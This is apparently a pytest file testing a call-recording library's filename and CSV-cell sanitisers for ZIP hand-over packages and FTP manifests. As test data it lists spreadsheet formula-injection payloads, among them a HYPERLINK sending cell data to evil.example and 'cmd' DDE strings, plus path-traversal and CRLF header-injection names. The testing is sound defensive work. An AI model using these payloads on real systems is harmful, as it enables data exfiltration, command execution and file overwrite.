"""Safe names and cells (``call_recording/lib/safe.py``) and where they are used:
the hand-over ZIP, its metadata sheet and the FTP manifest (issue 11, hole 12)."""

import csv
import io
import posixpath
import zipfile

import pytest
from call_recording_ftp_lib import manifest
from call_recording_lib import audio, handover
from call_recording_lib.safe import csv_cell, safe_filename

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("CR-2026-000001_inbound_36301234567.wav", "CR-2026-000001_inbound_36301234567.wav"),
        ("../../../../etc/passwd", "passwd"),
        ("..\\..\\windows\\evil.wav", "evil.wav"),
        ("rec.wav\r\nSet-Cookie: a=b", "rec.wav_Set-Cookie_a_b"),
        ("..", "file"),
        (".hidden.wav", "hidden.wav"),
        ("hívás 1.wav", "h_v_s_1.wav"),
        ("", "file"),
        (None, "file"),
    ],
)
def test_safe_filename(name, expected):
    assert safe_filename(name) == expected


def test_safe_filename_keeps_the_extension_when_shortened():
    name = safe_filename("x" * 500 + ".wav")
    assert len(name) == 120
    assert name.endswith(".wav")
    assert safe_filename("", default="recording.wav") == "recording.wav"


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cell_never_starts_a_formula(formula):
    assert csv_cell(formula) == "'" + formula


@pytest.mark.parametrize(
    "value", ["+36 1 555 0100", "+3615550100", "-5", "2026-01-10 09:00:00", "CR/2026/1", 42, None]
)
def test_csv_cell_leaves_numbers_and_text(value):
    assert csv_cell(value) == value


def _cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_handover_names_and_cells(tmp_path):
    path = tmp_path / "a.wav"
    path.write_bytes(audio.synth_call_wav(0.2, seed=1))
    entries = [
        handover.PackageEntry(
            str(path), "CR-1_inbound_../../../../tmp/evil1.wav", {"reference": "CR/1"}
        ),
        handover.PackageEntry(str(path), "/abs/olute.wav", {"other_number": FORMULAS[0]}),
        handover.PackageEntry(str(path), "..", {"line": "+36 1 555 0100"}),
    ]
    target = tmp_path / "p.zip"
    handover.build_package(str(target), entries, title="=REQ")
    with zipfile.ZipFile(target) as archive:
        names = archive.namelist()
        sheet = archive.read("metadata.csv").decode()
    recordings = [n for n in names if n.startswith("recordings/")]
    assert recordings == ["recordings/evil1.wav", "recordings/olute.wav", "recordings/recording"]
    for name in names:
        assert posixpath.normpath(name) == name
        assert ".." not in name.split("/")
    cells = _cells(sheet)
    assert "'" + FORMULAS[0] in cells
    assert "+36 1 555 0100" in cells
    assert not [c for c in cells if c.startswith(("=", "@"))]


def test_ftp_manifest_cells():
    entries = [
        {"reference": "CR1", "number": FORMULAS[0], "agent": "@agent", "line": "+3615550100"},
    ]
    cells = _cells(manifest.manifest_csv(entries).decode())
    assert "'" + FORMULAS[0] in cells
    assert "'@agent" in cells
    assert "+3615550100" in cells
